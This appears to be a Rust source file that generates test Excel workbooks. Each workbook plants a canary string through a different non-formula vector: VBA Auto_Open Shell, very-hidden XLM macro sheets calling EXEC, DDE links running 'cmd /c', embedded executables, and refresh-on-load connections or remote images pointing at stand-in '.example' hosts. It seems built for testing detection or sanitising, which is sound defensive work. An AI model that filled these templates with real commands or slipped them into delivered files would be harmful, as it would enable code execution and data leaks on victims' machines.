//! Excel vectors outside formulas: macro sheets, links, connections, objects,
//! drawings, parts.

use super::xlsx::{BOOK, MS, Named, SHEET, SML, TYPE};
use crate::make::ole::{compound, macro_project, packaged, program};
use crate::make::package::{Package, XML};
use crate::make::picture;

fn add(
    package: &mut Package,
    source: &str,
    part: &str,
    content_type: &str,
    kind: &str,
    text: &str,
) {
    let body = if part.ends_with(".xml") { format!("{XML}{text}") } else { text.to_owned() };
    package.part(part, content_type, body);
    package.relate(source, "rIdX", kind, &format!("/{part}"));
}

/// Every vector that is no formula.
pub const VECTORS: &[Named] = &[
    ("macro-project", |p, canary| {
        p.retype(BOOK, "application/vnd.ms-excel.sheet.macroEnabled.main+xml");
        p.part(
            "xl/vbaProject.bin",
            "application/vnd.ms-office.vbaProject",
            macro_project(&format!("Sub Auto_Open()\r\nShell \"{canary}\"\r\nEnd Sub")),
        );
        p.relate(BOOK, "rIdX", &format!("{MS}2006/relationships/vbaProject"), "vbaProject.bin");
    }),
    ("macro-sheet", |p, canary| {
        p.retype(BOOK, "application/vnd.ms-excel.sheet.macroEnabled.main+xml");
        p.before(
            BOOK,
            "</sheets>",
            "<sheet name=\"M\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rIdX\"/>",
        );
        add(
            p,
            BOOK,
            "xl/macrosheets/sheet2.xml",
            "application/vnd.ms-excel.macrosheet+xml",
            &format!("{MS}2006/relationships/xlMacrosheet"),
            &format!(
                "<xm:macrosheet {SML} xmlns:xm=\"{MS}excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"{canary}\")</f></c></row></sheetData></xm:macrosheet>"
            ),
        );
        p.before(BOOK, "</workbook>", "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">M!$A$1</definedName></definedNames>");
    }),
    ("macro-international", |p, canary| {
        p.before(
            BOOK,
            "</sheets>",
            "<sheet name=\"M\" sheetId=\"2\" state=\"hidden\" r:id=\"rIdX\"/>",
        );
        add(
            p,
            BOOK,
            "xl/macrosheets/intlsheet2.xml",
            "application/vnd.ms-excel.intlmacrosheet+xml",
            &format!("{MS}2006/relationships/xlIntlMacrosheet"),
            &format!(
                "<xm:macrosheet {SML} xmlns:xm=\"{MS}excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"{canary}\")</f></c></row></sheetData></xm:macrosheet>"
            ),
        );
    }),
    ("macro-dialog", |p, canary| {
        p.before(BOOK, "</sheets>", "<sheet name=\"D\" sheetId=\"2\" r:id=\"rIdX\"/>");
        add(
            p,
            BOOK,
            "xl/dialogsheets/sheet2.xml",
            &format!("{TYPE}dialogsheet+xml"),
            "dialogsheet",
            &format!("<dialogsheet {SML}><sheetPr codeName=\"{canary}\"/></dialogsheet>"),
        );
    }),
    ("name-auto-open", |p, canary| {
        p.before(BOOK, "</workbook>", &format!("<definedNames><definedName name=\"_xlnm.Auto_Open{canary}\" function=\"1\" vbProcedure=\"1\">0</definedName></definedNames>"));
    }),
    ("link-dde", |p, canary| {
        external(
            p,
            &format!(
                "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c {canary}\"><ddeItems><ddeItem name=\"A1\" advise=\"1\"/></ddeItems></ddeLink>"
            ),
            None,
        )
    }),
    ("link-ole", |p, canary| {
        external(
            p,
            "<oleLink r:id=\"rId1\" progId=\"Package\"><oleItems><oleItem name=\"'\" advise=\"1\"/></oleItems></oleLink>",
            Some(("oleObject", canary)),
        )
    }),
    ("link-book", |p, canary| {
        external(
            p,
            "<externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"S\"/></sheetNames></externalBook>",
            Some(("externalLinkPath", canary)),
        )
    }),
    ("link-missing", |p, canary| {
        external(
            p,
            "<externalBook r:id=\"rId1\"/>",
            Some((
                "http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/xlPathMissing",
                canary,
            )),
        )
    }),
    ("link-startup", |p, canary| {
        external(
            p,
            "<externalBook r:id=\"rId1\"/>",
            Some((
                "http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/xlStartup",
                canary,
            )),
        )
    }),
    ("link-alternate", |p, canary| {
        external(
            p,
            "<externalBook r:id=\"rId1\"/>",
            Some((
                "http://schemas.microsoft.com/office/2019/04/relationships/externalLinkLongPath",
                canary,
            )),
        )
    }),
    ("connection-odbc", |p, canary| {
        add(
            p,
            BOOK,
            "xl/connections.xml",
            &format!("{TYPE}connections+xml"),
            "connections",
            &format!(
                "<connections {SML}><connection id=\"1\" name=\"c\" type=\"1\" refreshedVersion=\"6\" refreshOnLoad=\"1\"><dbPr connection=\"DSN={canary}\" command=\"SELECT 1\"/></connection></connections>"
            ),
        )
    }),
    ("connection-web", |p, canary| {
        add(
            p,
            BOOK,
            "xl/connections.xml",
            &format!("{TYPE}connections+xml"),
            "connections",
            &format!(
                "<connections {SML}><connection id=\"1\" name=\"c\" type=\"4\" refreshedVersion=\"6\" refreshOnLoad=\"1\"><webPr url=\"http://{canary}.example/\"/></connection></connections>"
            ),
        )
    }),
    ("connection-text", |p, canary| {
        add(
            p,
            BOOK,
            "xl/connections.xml",
            &format!("{TYPE}connections+xml"),
            "connections",
            &format!(
                "<connections {SML}><connection id=\"1\" name=\"c\" type=\"6\" refreshedVersion=\"6\"><textPr sourceFile=\"\\\\{canary}.example\\x.txt\"/></connection></connections>"
            ),
        )
    }),
    ("query-table", |p, canary| {
        add(
            p,
            SHEET,
            "xl/queryTables/queryTable1.xml",
            &format!("{TYPE}queryTable+xml"),
            "queryTable",
            &format!(
                "<queryTable {SML} name=\"{canary}\" connectionId=\"1\" refreshOnLoad=\"1\"/>"
            ),
        )
    }),
    ("pivot-outside", |p, canary| {
        p.before(
            BOOK,
            "</workbook>",
            "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rIdX\"/></pivotCaches>",
        );
        add(
            p,
            BOOK,
            "xl/pivotCache/pivotCacheDefinition1.xml",
            &format!("{TYPE}pivotCacheDefinition+xml"),
            "pivotCacheDefinition",
            &format!(
                "<pivotCacheDefinition {SML} refreshOnLoad=\"1\"><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B2\" sheet=\"{canary}\" r:id=\"rId1\"/></cacheSource><cacheFields count=\"0\"/></pivotCacheDefinition>"
            ),
        );
        p.relate_out(
            "xl/pivotCache/pivotCacheDefinition1.xml",
            "rId1",
            "externalLinkPath",
            &format!("http://{canary}.example/x.xlsx"),
        );
    }),
    ("pivot-external", |p, canary| {
        p.before(
            BOOK,
            "</workbook>",
            "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rIdX\"/></pivotCaches>",
        );
        add(
            p,
            BOOK,
            "xl/pivotCache/pivotCacheDefinition1.xml",
            &format!("{TYPE}pivotCacheDefinition+xml"),
            "pivotCacheDefinition",
            &format!(
                "<pivotCacheDefinition {SML} refreshOnLoad=\"1\" refreshedBy=\"{canary}\"><cacheSource type=\"external\" connectionId=\"1\"/><cacheFields count=\"0\"/></pivotCacheDefinition>"
            ),
        );
    }),
    ("xml-maps", |p, canary| {
        add(
            p,
            BOOK,
            "xl/xmlMaps.xml",
            "application/xml",
            "xmlMaps",
            &format!(
                "<MapInfo {SML} SelectionNamespaces=\"\"><Schema ID=\"S\" SchemaRef=\"http://{canary}.example/x.xsd\"/><Map ID=\"1\" Name=\"m\" RootElement=\"r\" SchemaID=\"S\"><DataBinding FileBinding=\"true\" ConnectionID=\"1\" DataBindingLoadMode=\"1\"/></Map></MapInfo>"
            ),
        )
    }),
    ("volatile", |p, canary| {
        add(
            p,
            BOOK,
            "xl/volatileDependencies.xml",
            &format!("{TYPE}volatileDependencies+xml"),
            "volatileDependencies",
            &format!(
                "<volTypes {SML}><volType type=\"realTimeData\"><main first=\"{canary}\"><tp><v>1</v><stp>{canary}</stp><tr r=\"A1\" s=\"1\"/></tp></main></volType></volTypes>"
            ),
        )
    }),
    ("object-embedded", |p, canary| {
        p.part(
            "xl/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            packaged("a.exe", &program(canary)),
        );
        p.relate(SHEET, "rIdX", "oleObject", "../embeddings/oleObject1.bin");
        p.before(SHEET, "</worksheet>", "<oleObjects><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rIdX\"/></oleObjects>");
    }),
    ("object-link", |p, canary| {
        p.before(SHEET, "</worksheet>", &format!("<oleObjects><oleObject progId=\"Package\" link=\"[1]!''''{canary}\" oleUpdate=\"OLEUPDATE_ALWAYS\" shapeId=\"1025\"/></oleObjects>"));
    }),
    ("control", |p, canary| {
        p.part("xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", format!("{XML}<ax:ocx xmlns:ax=\"{MS}2006/activeX\" ax:classid=\"{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}\" ax:license=\"{canary}\" ax:persistence=\"persistStorage\"/>"));
        p.relate(SHEET, "rIdX", "control", "../activeX/activeX1.xml");
        p.before(
            SHEET,
            "</worksheet>",
            "<controls><control shapeId=\"1025\" r:id=\"rIdX\" name=\"B1\"/></controls>",
        );
    }),
    ("control-properties", |p, canary| {
        add(
            p,
            SHEET,
            "xl/ctrlProps/ctrlProp1.xml",
            "application/vnd.ms-excel.controlproperties+xml",
            "ctrlProp",
            &format!(
                "<formControlPr xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" objectType=\"Button\" fmlaMacro=\"{canary}\" macro=\"{canary}\"/>"
            ),
        )
    }),
    ("control-vml", |p, canary| {
        p.part("xl/drawings/vmlDrawing1.vml", "", format!("<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"_x0000_s1025\" style=\"position:absolute;width:60pt;height:20pt\" o:button=\"t\" href=\"file://{canary}.example/\"><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!{canary}</x:FmlaMacro><x:ScriptText>{canary}</x:ScriptText></x:ClientData></v:shape></xml>"));
        p.relate(SHEET, "rIdX", "vmlDrawing", "../drawings/vmlDrawing1.vml");
        p.before(SHEET, "</worksheet>", "<legacyDrawing r:id=\"rIdX\"/>");
    }),
    ("header-picture", |p, canary| {
        p.part("xl/drawings/vmlDrawing1.vml", "", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"><v:shape id=\"CH\" style=\"width:60pt;height:20pt\"><v:imagedata o:relid=\"rId1\"/></v:shape></xml>");
        p.relate_out(
            "xl/drawings/vmlDrawing1.vml",
            "rId1",
            "image",
            &format!("http://{canary}.example/x.png"),
        );
        p.relate(SHEET, "rIdX", "vmlDrawing", "../drawings/vmlDrawing1.vml");
        p.before(SHEET, "</worksheet>", "<legacyDrawingHF r:id=\"rIdX\"/>");
    }),
    ("drawing-macro", |p, canary| {
        drawing(
            p,
            &format!(
                "<xdr:sp macro=\"[0]!{canary}\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"b\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp>"
            ),
        )
    }),
    ("drawing-textlink", |p, canary| {
        drawing(
            p,
            &format!(
                "<xdr:sp macro=\"\" textlink=\"'\\\\{canary}.example\\[x]S'!A1\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"b\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp>"
            ),
        )
    }),
    ("drawing-link", |p, canary| {
        drawing(
            p,
            "<xdr:sp macro=\"\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"b\"><a:hlinkClick r:id=\"rId1\"/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp>",
        );
        p.relate_out(
            "xl/drawings/drawing1.xml",
            "rId1",
            "hyperlink",
            &format!("javascript:{canary}"),
        );
    }),
    ("drawing-picture", |p, canary| {
        drawing(
            p,
            "<xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"2\" name=\"b\"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link=\"rId1\"/></xdr:blipFill><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>",
        );
        p.relate_out(
            "xl/drawings/drawing1.xml",
            "rId1",
            "image",
            &format!("http://{canary}.example/x.png"),
        );
    }),
    ("chart-outside", |p, canary| {
        drawing(
            p,
            "<xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"2\" name=\"c\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/></xdr:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/chart\"><c:chart xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" r:id=\"rId1\"/></a:graphicData></a:graphic></xdr:graphicFrame>",
        );
        p.relate("xl/drawings/drawing1.xml", "rId1", "chart", "../charts/chart1.xml");
        p.part("xl/charts/chart1.xml", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml", format!("{XML}<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><c:chart><c:plotArea><c:layout/><c:lineChart><c:grouping val=\"standard\"/><c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:val><c:numRef><c:f>'\\\\{canary}.example\\[x.xlsx]S'!$A$1</c:f></c:numRef></c:val></c:ser><c:axId val=\"1\"/><c:axId val=\"2\"/></c:lineChart></c:plotArea></c:chart><c:externalData r:id=\"rId1\"><c:autoUpdate val=\"1\"/></c:externalData></c:chartSpace>"));
        p.relate_out(
            "xl/charts/chart1.xml",
            "rId1",
            "oleObject",
            &format!("http://{canary}.example/x.xlsx"),
        );
    }),
    ("background", |p, canary| {
        p.relate_out(SHEET, "rIdX", "image", &format!("http://{canary}.example/x.png"));
        p.before(SHEET, "</worksheet>", "<picture r:id=\"rIdX\"/>");
    }),
    ("custom-property", |p, canary| {
        p.part("xl/customProperty1.bin", &format!("{TYPE}customProperty"), canary);
        p.relate(SHEET, "rIdX", "customProperty", "../customProperty1.bin");
        p.before(
            SHEET,
            "</worksheet>",
            &format!(
                "<customProperties><customPr name=\"{canary}\" r:id=\"rIdX\"/></customProperties>"
            ),
        );
    }),
    ("printer", |p, canary| {
        p.part(
            "xl/printerSettings/printerSettings1.bin",
            &format!("{TYPE}printerSettings"),
            canary,
        );
        p.relate(SHEET, "rIdX", "printerSettings", "../printerSettings/printerSettings1.bin");
        p.before(SHEET, "</worksheet>", "<pageSetup paperSize=\"9\" r:id=\"rIdX\"/>");
    }),
    ("web-publish", |p, canary| {
        p.before(SHEET, "</worksheet>", &format!("<webPublishItems count=\"1\"><webPublishItem id=\"1\" divId=\"d\" sourceType=\"sheet\" destinationFile=\"http://{canary}.example/\"/></webPublishItems>"));
    }),
    ("smart-tags", |p, canary| {
        p.before(BOOK, "</workbook>", &format!("<smartTagTypes><smartTagType namespaceUri=\"urn:x\" name=\"n\" url=\"http://{canary}.example/\"/></smartTagTypes>"));
    }),
    ("file-sharing", |p, canary| {
        p.replace(
            BOOK,
            "<sheets>",
            &format!("<fileSharing userName=\"{canary}\" readOnlyRecommended=\"1\"/><sheets>"),
        );
    }),
    ("path", |p, canary| {
        p.replace(BOOK, "<sheets>", &format!("<x15ac:absPath xmlns:x15ac=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac\" url=\"C:\\Users\\{canary}\\\"/><sheets>"));
    }),
    ("revisions", |p, canary| {
        add(
            p,
            BOOK,
            "xl/revisions/revisionHeaders.xml",
            &format!("{TYPE}revisionHeaders+xml"),
            "revisionHeaders",
            &format!(
                "<headers {SML} guid=\"{{00000000-0000-0000-0000-000000000000}}\"><header guid=\"{{00000000-0000-0000-0000-000000000001}}\" dateTime=\"2026-01-01T00:00:00\" maxSheetId=\"2\" userName=\"{canary}\" r:id=\"rId1\"/></headers>"
            ),
        )
    }),
    ("user-names", |p, canary| {
        add(
            p,
            BOOK,
            "xl/revisions/userNames.xml",
            &format!("{TYPE}userNames+xml"),
            "usernames",
            &format!(
                "<users {SML} count=\"1\"><userInfo guid=\"{{00000000-0000-0000-0000-000000000000}}\" name=\"{canary}\" id=\"1\" dateTime=\"2026-01-01T00:00:00\"/></users>"
            ),
        )
    }),
    ("model", |p, canary| {
        add(
            p,
            BOOK,
            "xl/model/item.data",
            "application/vnd.openxmlformats-officedocument.model+data",
            &format!("{MS}2011/relationships/powerPivotData"),
            canary,
        )
    }),
    ("slicer", |p, canary| {
        add(
            p,
            BOOK,
            "xl/slicerCaches/slicerCache1.xml",
            "application/vnd.ms-excel.slicerCache+xml",
            &format!("{MS}2007/relationships/slicerCache"),
            &format!(
                "<slicerCacheDefinition xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" name=\"s\" sourceName=\"{canary}\"><data><olap pivotCacheId=\"1\"/></data></slicerCacheDefinition>"
            ),
        )
    }),
    ("rich-web-image", |p, canary| {
        add(
            p,
            BOOK,
            "xl/richData/rdRichValueWebImage.xml",
            "application/vnd.ms-excel.rdrichvaluewebimage+xml",
            &format!("{MS}2020/07/relationships/rdRichValueWebImage"),
            "<webImagesSrd xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><webImageSrd><address r:id=\"rId1\"/></webImageSrd></webImagesSrd>",
        );
        p.relate_out(
            "xl/richData/rdRichValueWebImage.xml",
            "rId1",
            "hyperlink",
            &format!("http://{canary}.example/x.png"),
        );
    }),
    ("python-script", |p, canary| {
        add(
            p,
            BOOK,
            "xl/pythonScripts.xml",
            "application/vnd.ms-excel.pythonscripts+xml",
            &format!("{MS}2023/09/relationships/pythonScript"),
            &format!(
                "<pythonScripts xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2023/pythonscript\"><pythonScript>{canary}</pythonScript></pythonScripts>"
            ),
        )
    }),
    ("sheet-extension", |p, canary| {
        p.before(SHEET, "</worksheet>", &format!("<extLst><ext uri=\"{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\"><x14:sparklineGroups xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>'\\\\{canary}.example\\[x]S'!A1</xm:f><xm:sqref>A1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"));
    }),
    ("comment-vba", |p, canary| {
        p.part(
            "xl/embeddings/x.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            compound(None, &[("\u{1}Ole", canary.as_bytes())]),
        );
    }),
    ("picture-text", |p, canary| {
        drawing(
            p,
            "<xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"2\" name=\"b\"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed=\"rId1\"/></xdr:blipFill><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>",
        );
        p.part("xl/media/image1.jpeg", "", picture::jpeg_with(0xfe, canary.as_bytes()));
        p.relate("xl/drawings/drawing1.xml", "rId1", "image", "../media/image1.jpeg");
    }),
    ("xsi-schema", |p, canary| {
        p.before(
            SHEET,
            "</worksheet>",
            &format!(
                "<extLst><ext uri=\"{{{canary}}}\"><y xmlns=\"urn:y\">{canary}</y></ext></extLst>"
            ),
        );
    }),
];

fn external(package: &mut Package, inside: &str, target: Option<(&str, &str)>) {
    let part = "xl/externalLinks/externalLink1.xml";
    package.before(
        BOOK,
        "</workbook>",
        "<externalReferences><externalReference r:id=\"rIdX\"/></externalReferences>",
    );
    add(
        package,
        BOOK,
        part,
        &format!("{TYPE}externalLink+xml"),
        "externalLink",
        &format!("<externalLink {SML}>{inside}</externalLink>"),
    );
    if let Some((kind, canary)) = target {
        package.relate_out(part, "rId1", kind, &format!("file:///\\\\{canary}.example\\x.xlsx"));
    }
}

fn drawing(package: &mut Package, inside: &str) {
    let part = "xl/drawings/drawing1.xml";
    add(
        package,
        SHEET,
        part,
        "application/vnd.openxmlformats-officedocument.drawing+xml",
        "drawing",
        &format!(
            "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">\
         <xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>4</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>4</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>8</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>{inside}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
        ),
    );
    package.before(SHEET, "</worksheet>", "<drawing r:id=\"rIdX\"/>");
}
